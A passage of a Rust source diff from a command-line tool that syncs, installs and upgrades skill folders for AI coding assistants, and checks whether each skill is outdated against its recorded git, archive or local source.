+            SyncPlan::Failed(reason) => Ok((Outcome::Failed, reason)),
+            SyncPlan::Copy if cmd.dry_run => Ok((Outcome::Ok, "would copy".to_string())),
+            SyncPlan::Replace(changes) if cmd.dry_run => Ok((
+                Outcome::Ok,
+                format!("would replace ({})", changes.summary()),
+            )),
+            SyncPlan::Copy => apply_sync(config, paths, &manifest, cmd, &to_root, name, None)
+                .map(|()| (Outcome::Ok, "copied".to_string())),
+            SyncPlan::Replace(changes) => apply_sync(
+                config,
+                paths,
+                &manifest,
+                cmd,
+                &to_root,
+                name,
+                Some(&changes),
+            )
+            .map(|()| (Outcome::Ok, format!("replaced ({})", changes.summary()))),
+        };
+        match outcome {
+            Ok((outcome, detail)) => {
+                if outcome == Outcome::Ok && !cmd.dry_run {
+                    changed.push((cmd.to, name.clone()));
+                }
+                summary.push(cmd.to, name, outcome, detail);
+            }
+            Err(err) => summary.push(cmd.to, name, Outcome::Failed, format!("{err:#}")),
+        }
+    }
+    discard_sync_staging(&to_root, &names);
+
+    notify_changed(config, ReloadEvent::Install, &changed);
+    if summary.is_empty() {
+        println!(
+            "All {identical} skill(s) already match between {} and {}",
+            cmd.from, cmd.to
+        );
+        return Ok(());
+    }
+    summary.print();
+    if identical > 0 {
+        println!("{identical} identical skill(s) left as they are");
+    }
+    summary.result("sync")
+}
+
+/// Stages `from_dir` as it would be copied and compares it with the target's copy.
+fn plan_sync(
+    cmd: &SyncCommand,
+    manifest: &InstallManifest,
+    from_dir: &Path,
+    to_root: &Path,
+    name: &str,
+) -> Result<SyncPlan> {
+    let dest_dir = to_root.join(name);
+    let staging_dir = to_root.join(format!(".{name}.sync"));
+    let staged_hashes = if cmd.dry_run {
+        let temp_dir = downloads::temp_dir()?;
+        stage_sync(from_dir, &temp_dir.path().join(name), name, cmd.to)?
+    } else {
+        stage_sync(from_dir, &staging_dir, name, cmd.to)?
+    };
+    if !dest_dir.exists() {
+        return Ok(SyncPlan::Copy);
+    }
+    let changes = manifest::changes(&manifest::hash_dir(&dest_dir)?, &staged_hashes);
+    Ok(if changes.is_empty() {
+        SyncPlan::Identical
+    } else if manifest.is_pinned(cmd.to, name) {
+        SyncPlan::Skipped(format!(
+            "differs ({}) but is pinned; run `skill unpin {name}` to replace it",
+            changes.summary()
+        ))
+    } else if !cmd.update {
+        SyncPlan::Skipped(format!(
+            "differs ({}); pass --update to replace it",
+            changes.summary()
+        ))
+    } else if manifest.is_protected(cmd.to, name) && !cmd.force_protected {
+        SyncPlan::Skipped("protected; pass --force-protected to replace it".to_string())
+    } else {
+        SyncPlan::Replace(changes)
+    })
+}
+
+/// Copies skill `name` into `staging_dir` with its tool names converted for
+/// `assistant`, returning the staged file hashes.
+fn stage_sync(
+    from_dir: &Path,
+    staging_dir: &Path,
+    name: &str,
+    assistant: Assistant,
+) -> Result<BTreeMap<String, String>> {
+    if fs::symlink_metadata(staging_dir).is_ok() {
+        fs::remove_dir_all(staging_dir)
+            .with_context(|| format!("failed to remove {}", staging_dir.display()))?;
+    }
+    copy_dir_filtered(from_dir, staging_dir)?;
+    for warning in convert_allowed_tools(staging_dir, assistant)? {
+        eprintln!("Warning: {name}: {warning}");
+    }
+    manifest::hash_dir(staging_dir)
+}
+
+/// Moves a staged copy into place, replacing the existing skill when `replacing`, and
+/// gives it the source's install record.
+fn apply_sync(
+    config: &Config,
+    paths: &AppPaths,
+    manifest: &InstallManifest,
+    cmd: &SyncCommand,
+    to_root: &Path,
+    name: &str,
+    replacing: Option<&FileChanges>,
+) -> Result<()> {
+    let dest_dir = to_root.join(name);
+    let staging_dir = to_root.join(format!(".{name}.sync"));
+    let previous_target = shared::linked_target(&dest_dir);
+    let steps = match replacing {
+        None => vec![JournalStep::MoveDir {
+            from: staging_dir,
+            to: dest_dir.clone(),
+        }],
+        Some(_) => {
+            let backup_dir = to_root.join(format!(".{name}.previous"));
+            vec![
+                JournalStep::MoveDir {
+                    from: dest_dir.clone(),
+                    to: backup_dir.clone(),
+                },
+                JournalStep::MoveDir {
+                    from: staging_dir,
+                    to: dest_dir.clone(),
+                },
+                JournalStep::RemoveDir { path: backup_dir },
+            ]
+        }
+    };
+    Journal::begin(paths, "sync", steps)?.run()?;
+    if let Some(target) = previous_target {
+        release_shared(config, paths, name, &target)?;
+    }
+    let action = match replacing {
+        None => AuditAction::Install,
+        Some(_) => AuditAction::Update,
+    };
+    audit::record(
+        paths,
+        AuditEvent::new(action, Some(cmd.to), name).with_bytes(skill_size(&dest_dir)?),
+    );
+    let record = match manifest.get(cmd.from, name).cloned() {
+        Some(mut record) => {
+            record.files = manifest::hash_dir(&dest_dir)?;
+            record.installed_at = Utc::now();
+            record.updated_at = None;
+            Some(record)
+        }
+        None => None,
+    };
+    InstallManifest::update(paths, |manifest| match record {
+        Some(record) => {
+            manifest.lock_source(cmd.to, name, &record.source);
+            manifest.insert(cmd.to, name, record);
+        }
+        None => {
+            manifest.remove(cmd.to, name);
+        }
+    })?;
+    Ok(())
+}
+
+fn discard_sync_staging(to_root: &Path, names: &[String]) {
+    for name in names {
+        let _ = fs::remove_dir_all(to_root.join(format!(".{name}.sync")));
+    }
+}
+
+/// Names of the skills directly under `root`, following links.
+fn installed_skill_names(root: &Path) -> Result<Vec<String>> {
+    let mut names = Vec::new();
+    if !root.is_dir() {
+        return Ok(names);
+    }
+    for entry in fs::read_dir(root).with_context(|| format!("failed to read {}", root.display()))? {
+        let path = entry?.path();
+        if let Some(name) = path.file_name().and_then(|name| name.to_str())
+            && !name.starts_with('.')
+            && path.join("SKILL.md").is_file()
+        {
+            names.push(name.to_string());
+        }
+    }
+    names.sort();
+    Ok(names)
+}
+
+/// Runs each affected assistant's reload hook once for a batch of changed skills.
+fn notify_changed(config: &Config, event: ReloadEvent, changed: &[(Assistant, String)]) {
+    for assistant in [Assistant::Codex, Assistant::ClaudeCode, Assistant::OpenCode] {
+        let names: Vec<String> = changed
+            .iter()
+            .filter(|(changed, _)| *changed == assistant)
+            .map(|(_, name)| name.clone())
+            .collect();
+        reload::notify(config, assistant, event, &names);
+    }
+}
+
+/// `skill workspace`: a local checkout of a skills repo as the source of truth. Its
+/// skills install with the checkout as their recorded source, so `sync` is `add --all`
+/// for the ones missing and `upgrade` for the ones the working tree changed.
+pub fn cmd_workspace(cmd: &WorkspaceCommand, config: &mut Config, paths: &AppPaths) -> Result<()> {
+    match &cmd.action {
+        WorkspaceAction::Init(init) => {
+            let dir = workspace_dir(Some(&init.dir), config)?;
+            let skills = find_skill_dirs(&dir)?;
+            if skills.is_empty() {
+                return Err(anyhow!("no SKILL.md found in {}", dir.display()));
+            }
+            if git_head(&dir).is_none() {
+                eprintln!(
+                    "Warning: {} is not a git checkout; installs will record no commit",
+                    dir.display()
+                );
+            }
+            config.workspace = Some(dir.clone());
+            config.save(paths)?;
+            println!(
+                "Workspace set to {} ({} skill(s))",
+                dir.display(),
+                skills.len()
+            );
+            Ok(())
+        }
+        WorkspaceAction::Status(status) => {
+            let dir = workspace_dir(status.dir.as_ref(), config)?;
+            let assistants = resolve_list_assistants(&status.assistant, config, "workspace");
+            let entries = plan_workspace(&dir, config, paths, &assistants, false)?;
+            print_workspace_status(&entries)
+        }
+        WorkspaceAction::Sync(sync) => sync_workspace(sync, config, paths),
+    }
+}
+
+/// The workspace `dir` names, or the configured one, as an absolute path.
+fn workspace_dir(dir: Option<&PathBuf>, config: &Config) -> Result<PathBuf> {
+    let dir = dir.or(config.workspace.as_ref()).ok_or_else(|| {
+        anyhow!("no workspace given; pass <REPO_DIR> or run `skill workspace init <REPO_DIR>`")
+    })?;
+    fs::canonicalize(dir).with_context(|| format!("workspace {} not found", dir.display()))
+}
+
+/// A skill of the workspace and where it stands for one assistant.
+struct WorkspaceEntry {
+    assistant: Assistant,
+    /// The skill's path inside the workspace, as `add --skill` takes it.
+    skill: Option<String>,
+    name: String,
+    skill_dir: PathBuf,
+    dest_dir: PathBuf,
+    plan: WorkspacePlan,
+}
+
+enum WorkspacePlan {
+    Install,
+    /// Installed: the `upgrade` plan when installed from this workspace, otherwise
+    /// skipped with the reason.
+    Installed(UpgradePlan),
+}
+
+impl WorkspacePlan {
+    fn status(&self) -> (&'static str, String) {
+        match self {
+            WorkspacePlan::Install => ("missing", "not installed".to_string()),
+            WorkspacePlan::Installed(UpgradePlan::UpToDate) => ("current", String::new()),
+            WorkspacePlan::Installed(UpgradePlan::Ready { changes, .. }) => {
+                ("outdated", changes.summary())
+            }
+            WorkspacePlan::Installed(UpgradePlan::Skipped(reason)) => ("skipped", reason.clone()),
+            WorkspacePlan::Installed(UpgradePlan::Failed(reason)) => ("failed", reason.clone()),
+        }
+    }
+}
+
+fn plan_workspace(
+    workspace: &Path,
+    config: &Config,
+    paths: &AppPaths,
+    assistants: &[Assistant],
+    force: bool,
+) -> Result<Vec<WorkspaceEntry>> {
+    let skill_dirs = find_skill_dirs(workspace)?;
+    if skill_dirs.is_empty() {
+        return Err(anyhow!("no SKILL.md found in {}", workspace.display()));
+    }
+    let manifest = InstallManifest::load(paths)?;
+    let options = source_options(config, paths, false, None)?;
+    let mut entries = Vec::new();
+    for skill_dir in skill_dirs {
+        let skill = skill_dir
+            .strip_prefix(workspace)
+            .map(|rel| rel.to_string_lossy().replace('\\', "/"))
+            .ok()
+            .filter(|rel| !rel.is_empty());
+        let name = match validation::read_frontmatter(&skill_dir) {
+            Ok(frontmatter) => frontmatter.name,
+            Err(err) => {
+                let name = skill
+                    .clone()
+                    .unwrap_or_else(|| workspace.display().to_string());
+                for &assistant in assistants {
+                    entries.push(WorkspaceEntry {
+                        assistant,
+                        skill: skill.clone(),
+                        name: name.clone(),
+                        skill_dir: skill_dir.clone(),
+                        dest_dir: PathBuf::new(),
+                        plan: WorkspacePlan::Installed(UpgradePlan::Failed(format!("{err:#}"))),
+                    });
+                }
+                continue;
+            }
+        };
+        for &assistant in assistants {
+            let dest_dir = config.skills_root_for(paths, assistant).join(&name);
+            let plan = if fs::symlink_metadata(&dest_dir).is_err() {
+                WorkspacePlan::Install
+            } else {
+                WorkspacePlan::Installed(match manifest.get(assistant, &name) {
+                    Some(record) if installed_from(record, &skill_dir) => {
+                        let target = UpgradeTarget {
+                            assistant,
+                            name: name.clone(),
+                            dest_dir: dest_dir.clone(),
+                            record: record.clone(),
+                            protected: manifest.is_protected(assistant, &name),
+                            pinned: manifest.is_pinned(assistant, &name),
+                        };
+                        plan_upgrade(&target, config, &options, force, false)
+                    }
+                    Some(record) => {
+                        UpgradePlan::Skipped(format!("installed from {}", record.source))
+                    }
+                    None => UpgradePlan::Skipped("installed without a record".to_string()),
+                })
+            };
+            entries.push(WorkspaceEntry {
+                assistant,
+                skill: skill.clone(),
+                name: name.clone(),
+                skill_dir: skill_dir.clone(),
+                dest_dir,
+                plan,
+            });
+        }
+    }
+    Ok(entries)
+}
+
+/// Whether `record` points at `skill_dir`, however the source was spelled.
+fn installed_from(record: &InstallRecord, skill_dir: &Path) -> bool {
+    let source = Path::new(&record.source).join(record.skill.as_deref().unwrap_or_default());
+    fs::canonicalize(source).is_ok_and(|source| source == skill_dir)
+}
+
+fn print_workspace_status(entries: &[WorkspaceEntry]) -> Result<()> {
+    if output::json() {
+        let rows: Vec<_> = entries
+            .iter()
+            .map(|entry| {
+                let (status, detail) = entry.plan.status();
+                serde_json::json!({
+                    "assistant": entry.assistant,
+                    "name": entry.name,
+                    "path": entry.skill_dir,
+                    "status": status,
+                    "detail": detail,
+                })
+            })
+            .collect();
+        return output::print_json(&rows);
+    }
+    let name_width = entries
+        .iter()
+        .map(|entry| entry.name.len())
+        .chain(["SKILL".len()])
+        .max()
+        .unwrap_or_default();
+    println!(
+        "{:<10}  {:<name_width$}  {:<8}  DETAIL",
+        "ASSISTANT", "SKILL", "STATUS"
+    );
+    for entry in entries {
+        let (status, detail) = entry.plan.status();
+        println!(
+            "{:<10}  {:<name_width$}  {:<8}  {detail}",
+            entry.assistant.as_str(),
+            entry.name,
+            status
+        );
+    }
+    Ok(())
+}
+
+fn sync_workspace(cmd: &WorkspaceSyncCommand, config: &Config, paths: &AppPaths) -> Result<()> {
+    let workspace = workspace_dir(cmd.dir.as_ref(), config)?;
+    let assistants = resolve_list_assistants(&cmd.assistant, config, "workspace");
+    let mut entries = plan_workspace(&workspace, config, paths, &assistants, cmd.force)?;
+    for name in &cmd.names {
+        if !entries.iter().any(|entry| &entry.name == name) {
+            eprintln!("Warning: {name} is not in the workspace; skipped");
+        }
+    }
+    if !cmd.names.is_empty() {
+        entries.retain(|entry| cmd.names.contains(&entry.name));
+    }
+
+    let ready: Vec<usize> = entries
+        .iter()
+        .enumerate()
+        .filter(|(_, entry)| {
+            matches!(
+                entry.plan,
+                WorkspacePlan::Install | WorkspacePlan::Installed(UpgradePlan::Ready { .. })
+            )
+        })
+        .map(|(index, _)| index)
+        .collect();
+    if !ready.is_empty() && !cmd.dry_run && !cmd.yes {
+        let rows: Vec<String> = ready
+            .iter()
+            .map(|&index| {
+                let entry = &entries[index];
+                let action = match &entry.plan {
+                    WorkspacePlan::Install => "install".to_string(),
+                    WorkspacePlan::Installed(UpgradePlan::Ready { changes, .. }) => {
+                        format!("update ({})", changes.summary())
+                    }
+                    _ => unreachable!("only ready entries are listed"),
+                };
+                format!("{} ({}): {action}", entry.name, entry.assistant)
+            })
+            .collect();
+        let Some(chosen) = confirm_batch("Sync these skills from the workspace?", &rows)? else {
+            return Err(anyhow!("workspace sync cancelled"));
+        };
+        for (row, &index) in ready.iter().enumerate() {
+            if !chosen.contains(&row) {
+                entries[index].plan =
+                    WorkspacePlan::Installed(UpgradePlan::Skipped("deselected".to_string()));
+            }
+        }
+    }
+
+    let options = source_options(config, paths, false, None)?;
+    let source = workspace.display().to_string();
+    let mut summary = BatchSummary::default();
+    let mut installed: Vec<(Assistant, String)> = Vec::new();
+    let mut updated: Vec<(Assistant, String)> = Vec::new();
+    let mut current = 0;
+    for entry in entries {
+        let (assistant, name) = (entry.assistant, entry.name.as_str());
+        match entry.plan {
+            WorkspacePlan::Installed(UpgradePlan::UpToDate) => current += 1,
+            WorkspacePlan::Installed(UpgradePlan::Skipped(reason)) => {
+                summary.push(assistant, name, Outcome::Skipped, reason);
+            }
+            WorkspacePlan::Installed(UpgradePlan::Failed(reason)) => {
+                summary.push(assistant, name, Outcome::Failed, reason);
+            }
+            WorkspacePlan::Install if cmd.dry_run => {
+                summary.push(assistant, name, Outcome::Ok, "would install");
+            }
+            WorkspacePlan::Installed(UpgradePlan::Ready { changes, .. }) if cmd.dry_run => {
+                let detail = format!("would update ({})", changes.summary());
+                summary.push(assistant, name, Outcome::Ok, detail);
+            }
+            WorkspacePlan::Install => {
+                let origin = AddOrigin {
+                    assistant,
+                    system: false,
+                    identity: source_identity(&source, &options.gitlab_host),
+                    source: source.clone(),
+                    reference: None,
+                    commit: git_head(&workspace),
+                    archive_digest: None,
+                    resolved_url: None,
+                    web_repo: None,
+                    replace: false,
+                    source_dir: workspace.clone(),
+                    downloaded: false,
+                    link: config.link_installs,
+                };
+                let result = check_skill(&entry.skill_dir, name, assistant, config, paths, false)
+                    .and_then(|warnings| {
+                        check_source_lock(
+                            &InstallManifest::load(paths)?,
+                            &origin,
+                            name,
+                            false,
+                            &options,
+                        )?;
+                        ensure_dir(config.skills_root_for(paths, assistant).as_path())?;
+                        install_skill(
+                            config,
+                            paths,
+                            &origin,
+                            &entry.skill_dir,
+                            &entry.dest_dir,
+                            entry.skill.clone(),
+                            warnings.len(),
+                        )
+                    });
+                match result {
+                    Ok(added) => {
+                        let detail = format!("installed ({} files)", added.files);
+                        summary.push(assistant, name, Outcome::Ok, detail);
+                        installed.push((assistant, entry.name));
+                    }
+                    Err(err) => summary.push(assistant, name, Outcome::Failed, format!("{err:#}")),
+                }
+            }
+            WorkspacePlan::Installed(UpgradePlan::Ready { fetched, changes }) => {
+                let result =
+                    install_update(config, paths, &entry.dest_dir, &fetched, &BTreeSet::new())
+                        .and_then(|()| {
+                            InstallManifest::update(paths, |manifest| {
+                                let mut record =
+                                    manifest.get(assistant, name).cloned().ok_or_else(|| {
+                                        anyhow!("install record of {name} disappeared")
+                                    })?;
+                                record_update(&mut record, *fetched);
+                                manifest.insert(assistant, name, record);
+                                Ok(())
+                            })?
+                        });
+                match result {
+                    Ok(()) => {
+                        audit::record(
+                            paths,
+                            AuditEvent::new(AuditAction::Update, Some(assistant), name),
+                        );
+                        let detail = format!("updated ({})", changes.summary());
+                        summary.push(assistant, name, Outcome::Ok, detail);
+                        updated.push((assistant, entry.name));
+                    }
+                    Err(err) => summary.push(assistant, name, Outcome::Failed, format!("{err:#}")),
+                }
+            }
+        }
+    }
+
+    notify_changed(config, ReloadEvent::Install, &installed);
+    notify_changed(config, ReloadEvent::Update, &updated);
+    if !summary.is_empty() {
+        summary.print();
+    }
+    if current > 0 {
+        println!("{current} skill(s) already current");
+    }
+    summary.result("sync")
+}
+
+struct UpgradeTarget {
+    assistant: Assistant,
+    name: String,
+    dest_dir: PathBuf,
+    record: InstallRecord,
+    protected: bool,
+    pinned: bool,
+}
+
+enum UpgradePlan {
+    UpToDate,
+    Skipped(String),
+    Failed(String),
+    Ready {
+        fetched: Box<FetchedSkill>,
+        changes: FileChanges,
+    },
+}
+
+/// Fetches and checks one skill for `upgrade`; runs concurrently, so it reports
+/// problems in the plan instead of printing them.
+fn plan_upgrade(
+    target: &UpgradeTarget,
+    config: &Config,
+    options: &SourceOptions,
+    force: bool,
+    force_protected: bool,
+) -> UpgradePlan {
+    let plan = || -> Result<UpgradePlan> {
+        if !target.dest_dir.exists() {
+            return Ok(UpgradePlan::Skipped("not installed".to_string()));
+        }
+        if target.pinned {
+            return Ok(UpgradePlan::Skipped(format!(
+                "pinned (`skill update {}` updates it, `skill unpin` releases it)",
+                target.name
+            )));
+        }
+        if target.protected && !force_protected {
+            return Ok(UpgradePlan::Skipped(
+                "protected (use --force-protected to upgrade)".to_string(),
+            ));
+        }
+        let local = manifest::hash_dir(&target.dest_dir)?;
+        if !force && !manifest::changes(&target.record.files, &local).is_empty() {
+            return Ok(UpgradePlan::Skipped(
+                "has local modifications (use --force to overwrite)".to_string(),
+            ));
+        }
+
+        let fetched = fetch_recorded_source(&target.record, options, target.assistant)?;
+        let downloaded = fetched.temp_dir.is_some();
+        if let Some(issue) = blocking_issue(&fetched.skill_dir, config, downloaded)? {
+            return Ok(UpgradePlan::Failed(issue));
+        }
+        let changes = manifest::changes(&target.record.files, &fetched.files);
+        // With --force, local edits alone are enough reason to reinstall.
+        if changes.is_empty() && manifest::changes(&local, &fetched.files).is_empty() {
+            return Ok(UpgradePlan::UpToDate);
+        }
+        warn_downgrade(&target.name, &target.dest_dir, &fetched.skill_dir);
+        Ok(UpgradePlan::Ready {
+            fetched: Box::new(fetched),
+            changes,
+        })
+    };
+    plan().unwrap_or_else(|err| UpgradePlan::Failed(format!("{err:#}")))
+}
+
+pub fn cmd_outdated(cmd: &OutdatedCommand, config: &Config, paths: &AppPaths) -> Result<()> {
+    let assistants = resolve_list_assistants(&cmd.assistant, config, "outdated");
+    let manifest = InstallManifest::load(paths)?;
+    let mut targets = Vec::new();
+    for assistant in assistants {
+        for (name, record) in manifest.records_for(assistant) {
+            if cmd.names.is_empty() || cmd.names.iter().any(|requested| requested == name) {
+                targets.push((assistant, name.to_string(), record.clone()));
+            }
+        }
+    }
+    for name in &cmd.names {
+        if !targets.iter().any(|(_, target, _)| target == name) {
+            eprintln!("Warning: no install record for {name}; skipped");
+        }
+    }
+    if targets.is_empty() {
+        println!("No installed skills with a recorded source");
+        return Ok(());
+    }
+
+    let options = source_options(config, paths, false, None)?;
+    let checked = parallel::map(&targets, |(assistant, _, record)| {
+        Ok(check_freshness(record, *assistant, &options)
+            .unwrap_or_else(|err| Freshness::Failed(format!("{err:#}"))))
+    })?;
+
+    if output::json() {
+        let rows: Vec<_> = targets
+            .iter()
+            .zip(&checked)
+            .map(|((assistant, name, record), freshness)| {
+                serde_json::json!({
+                    "assistant": assistant,
+                    "name": name,
+                    "source": record.source,
+                    "status": freshness.status(),
+                    "installed": installed_version(record),
+                    "latest": freshness.latest(),
+                    "detail": freshness.detail(record),
+                })
+            })
+            .collect();
+        return output::print_json(&rows);
+    }
+    let name_width = targets
+        .iter()
+        .map(|(_, name, _)| name.len())
+        .chain(["SKILL".len()])
+        .max()
+        .unwrap_or_default();
+    println!(
+        "{:<10}  {:<name_width$}  {:<7}  DETAIL",
+        "ASSISTANT", "SKILL", "STATUS"
+    );
+    for ((assistant, name, record), freshness) in targets.iter().zip(&checked) {
+        println!(
+            "{:<10}  {:<name_width$}  {:<7}  {}",
+            assistant.as_str(),
+            name,
+            freshness.status(),
+            freshness.detail(record)
+        );
+    }
+    let behind = checked
+        .iter()
+        .filter(|freshness| matches!(freshness, Freshness::Behind(_)))
+        .count();
+    if behind > 0 {
+        eprintln!("{behind} skill(s) behind their source; run `skill upgrade` to update them");
+    }
+    Ok(())
+}
+
+/// How an installed skill compares to the latest state of its recorded source.
+enum Freshness {
+    Current,
+    /// Newer content upstream: its commit, digest, or modification date.
+    Behind(String),
+    /// Installed from a fixed commit, which cannot move.
+    Pinned,
+    Unknown(String),
+    Failed(String),
+}
+
+impl Freshness {
+    fn status(&self) -> &'static str {
+        match self {
+            Freshness::Current => "current",
+            Freshness::Behind(_) => "behind",
+            Freshness::Pinned => "pinned",
+            Freshness::Unknown(_) => "unknown",
+            Freshness::Failed(_) => "error",
+        }
+    }
+
+    fn latest(&self) -> Option<&str> {
+        match self {
+            Freshness::Behind(latest) => Some(latest),
+            _ => None,
+        }
+    }
+
+    fn detail(&self, record: &InstallRecord) -> String {
+        let installed = installed_version(record).map_or("-", short_version);
+        match self {
+            Freshness::Current => format!("up to date at {installed}"),
+            Freshness::Behind(latest) => format!("{installed} -> {}", short_version(latest)),
+            Freshness::Pinned => format!("pinned to {installed}"),
+            Freshness::Unknown(reason) | Freshness::Failed(reason) => reason.clone(),
+        }
+    }
+}
+
+/// A commit or digest shortened for display; anything else as is.
+fn short_version(version: &str) -> &str {
+    if is_commit_sha(version) {
+        short_commit(version)
+    } else if version.starts_with("sha256:") || version.starts_with("tree-sha256:") {
+        short_digest(version)
+    } else {
+        version
+    }
+}
+
+/// The commit a skill was installed at, or failing that its source digest.
+fn installed_version(record: &InstallRecord) -> Option<&str> {
+    record.commit.as_deref().or(record.source_digest.as_deref())
+}
+
+/// Checks the recorded source of a skill for newer content without fetching it:
+/// `git ls-remote` for git sources, a HEAD request for archive URLs, and hashing for
+/// local sources.
+fn check_freshness(
+    record: &InstallRecord,
+    assistant: Assistant,
+    options: &SourceOptions,
+) -> Result<Freshness> {
+    let source = record.source.as_str();
+    let source_path = Path::new(source);
+    if source_path.is_file() {
+        let digest = format!("sha256:{}", manifest::hash_file(source_path)?);
+        return Ok(digest_freshness(record, digest));
+    }
+    if source_path.is_dir() {
+        let skill_dir = select_skill_dir(source_path, record.skill.as_deref())?;
+        let digest = manifest::tree_digest(&skill_hashes_for(&skill_dir, assistant)?);
+        return Ok(digest_freshness(record, digest));
+    }
+
+    let options = SourceOptions {
+        reference: record.reference.clone(),
+        ..options.clone()
+    };
+    if let Some(repo) = hosted_repo(source, &options)? {
+        if record.commit.is_some() {
+            return remote_commit_freshness(
+                &repo.clone_url(),
+                record,
+                repo.reference.as_deref(),
+                repo.git_auth_header().as_deref(),
+                &options,
+            );
+        }
+        if repo.reference.as_deref().is_some_and(is_commit_sha) {
+            return Ok(Freshness::Pinned);
+        }
+        return archive_freshness(
+            &repo.archive_url(),
+            ArchiveType::TarGz,
+            record,
+            &options,
+            Some(&repo),
+        );
+    }
+    if looks_like_http_url(source)
+        && let Some(archive_type) = detect_archive_type(source)
+    {
+        return archive_freshness(source, archive_type, record, &options, None);
+    }
+    if looks_like_http_url(source) || looks_like_git_source(source) {
+        return remote_commit_freshness(
+            source,
+            record,
+            record.reference.as_deref(),
+            None,
+            &options,
+        );
+    }
+    Err(anyhow!("source not found: {source}"))
+}
+
+fn digest_freshness(record: &InstallRecord, digest: String) -> Freshness {
+    if record.source_digest.as_deref() == Some(digest.as_str()) {
+        Freshness::Current
+    } else {
+        Freshness::Behind(digest)
+    }
+}
+
+/// Compares the installed commit with what `reference` (or HEAD) points at upstream.
+fn remote_commit_freshness(
+    url: &str,
+    record: &InstallRecord,
+    reference: Option<&str>,
+    auth_header: Option<&str>,
+    options: &SourceOptions,
+) -> Result<Freshness> {
+    if reference.is_some_and(is_commit_sha) {
+        return Ok(Freshness::Pinned);
+    }
+    let Some(installed) = record.commit.as_deref() else {
+        return Ok(Freshness::Unknown(
+            "no commit recorded at install".to_string(),
+        ));
+    };
+    let latest = git_ls_remote(url, reference.unwrap_or("HEAD"), auth_header, options)?;
+    if latest == installed {
+        Ok(Freshness::Current)
+    } else {
+        Ok(Freshness::Behind(latest))
+    }
+}
+
+/// The commit `reference` points at in the repository at `url`, peeling annotated tags.
+fn git_ls_remote(
+    url: &str,
+    reference: &str,
+    auth_header: Option<&str>,
+    options: &SourceOptions,
+) -> Result<String> {
+    let mut command = Command::new("git");
+    if let Some(header) = auth_header {
+        command
+            .env("GIT_CONFIG_COUNT", "1")
+            .env("GIT_CONFIG_KEY_0", "http.extraHeader")
+            .env("GIT_CONFIG_VALUE_0", header);
+    }
+    command.env("GIT_TERMINAL_PROMPT", "0").args([
+        "ls-remote",
+        url,
+        reference,
+        &format!("{reference}^{{}}"),
+    ]);
+    let output = output_with_timeout(&mut command, options.git_timeout)
+        .with_context(|| format!("failed to run git ls-remote for {url}"))?
+        .ok_or_else(|| anyhow!("git ls-remote for {url} timed out and was terminated"))?;
+    if !output.status.success() {
+        return Err(anyhow!(
+            "git ls-remote failed for {url}: {}",
+            String::from_utf8_lossy(&output.stderr).trim()
+        ));
+    }
+    let stdout = String::from_utf8_lossy(&output.stdout);
+    let refs: Vec<(&str, &str)> = stdout
+        .lines()
+        .filter_map(|line| line.split_once('\t'))
+        .collect();
+    refs.iter()
+        .find(|(_, name)| name.ends_with("^{}"))
+        .or_else(|| refs.first())
+        .map(|(commit, _)| commit.to_string())
+        .ok_or_else(|| anyhow!("{url} has no ref {reference}"))
+}
+
+/// Asks the server whether the archive at `url` changed since it was installed: by
+/// ETag when the cached download still matches the installed digest, otherwise by
+/// Last-Modified against the install or update time.
+fn archive_freshness(
+    url: &str,
+    archive_type: ArchiveType,
+    record: &InstallRecord,
+    options: &SourceOptions,
+    hosted: Option<&HostedRepo>,
+) -> Result<Freshness> {
+    let auth = hosted.and_then(HostedRepo::archive_auth);
+    let response = http::head(
+        url,
+        &[],
+        auth.as_ref()
+            .map(|(header, value)| (*header, value.as_str())),
+    )
+    .with_context(|| format!("failed to check {url}"))?
+    .response;
+
+    let installed_etag = options.cache.as_ref().and_then(|cache| {
+        let archive_path = cache.archive_path(url, archive_type.extension());
+        let digest = format!("sha256:{}", manifest::hash_file(&archive_path).ok()?);
+        (record.source_digest.as_deref() == Some(digest.as_str()))
+            .then(|| cache.load_meta(url)?.etag)?
+    });
+    if let (Some(installed), Some(latest)) = (installed_etag, response.header("ETag")) {
+        if installed == latest {
+            return Ok(Freshness::Current);
+        }
+        return Ok(Freshness::Behind(format!("ETag {latest}")));
+    }
+    let Some(modified) = response
+        .header("Last-Modified")
+        .and_then(|value| DateTime::parse_from_rfc2822(value).ok())
+    else {
+        return Ok(Freshness::Unknown(
+            "the server reports no ETag or Last-Modified to compare".to_string(),
+        ));
+    };
+    let modified = modified.with_timezone(&Utc);
+    if modified > record.updated_at.unwrap_or(record.installed_at) {
+        Ok(Freshness::Behind(format!(
+            "modified {}",
+            modified.to_rfc3339_opts(SecondsFormat::Secs, true)
+        )))
+    } else {
+        Ok(Freshness::Current)
+    }
+}
+
+/// A skill re-fetched from its recorded source; the temp dir keeps downloads alive
+/// until the update is installed.
+struct FetchedSkill {
+    /// The assistant the fetched files are hashed for (see [`skill_hashes_for`]).
+    assistant: Assistant,
+    source_dir: PathBuf,
+    skill_dir: PathBuf,
+    commit: Option<String>,
+    files: BTreeMap<String, String>,
+    /// Archive digest for downloads, otherwise the digest of the skill's file tree.
+    digest: String,
+    resolved_url: Option<String>,
+    web_url: Option<String>,
+    temp_dir: Option<TempDir>,
+}
+
+fn fetch_recorded_source(
+    record: &InstallRecord,
+    options: &SourceOptions,
+    assistant: Assistant,
+) -> Result<FetchedSkill> {
+    let options = SourceOptions {
+        reference: record.reference.clone(),
+        ..options.clone()
+    };
+    let PreparedSource {
+        dir: source_dir,
+        temp_dir,
+        archive_digest,
+        resolved_url,
+    } = prepare_source(&record.source, &options)?;
+    let skill_dir = select_skill_dir(&source_dir, record.skill.as_deref())?;
+    let files = skill_hashes_for(&skill_dir, assistant)?;
+    let commit = git_head(&source_dir);
+    let web_url = hosts::web_repo(
+        &record.source,
+        record.reference.as_deref(),
+        &options.gitlab_host,
+    )
+    .map(|repo| {
+        repo.tree_url(
+            commit.as_deref(),
+            &relative_skill_path(&source_dir, &skill_dir),
+        )
+    });
+    Ok(FetchedSkill {
+        assistant,
+        commit,
+        digest: archive_digest.unwrap_or_else(|| manifest::tree_digest(&files)),
+        resolved_url,
+        web_url,
+        files,
+        source_dir,
+        skill_dir,
+        temp_dir,
+    })
+}
+
+/// `skill_dir` as a `/`-separated path inside `source_dir`, empty for a skill at the root.
+fn relative_skill_path(source_dir: &Path, skill_dir: &Path) -> String {
+    skill_dir
+        .strip_prefix(source_dir)
+        .map(|path| {
+            path.components()
+                .map(|component| component.as_os_str().to_string_lossy())
+                .collect::<Vec<_>>()
+                .join("/")
+        })
+        .unwrap_or_default()
+}
+
+/// Replaces `dest_dir` with the fetched skill, keeping the local copy of each file
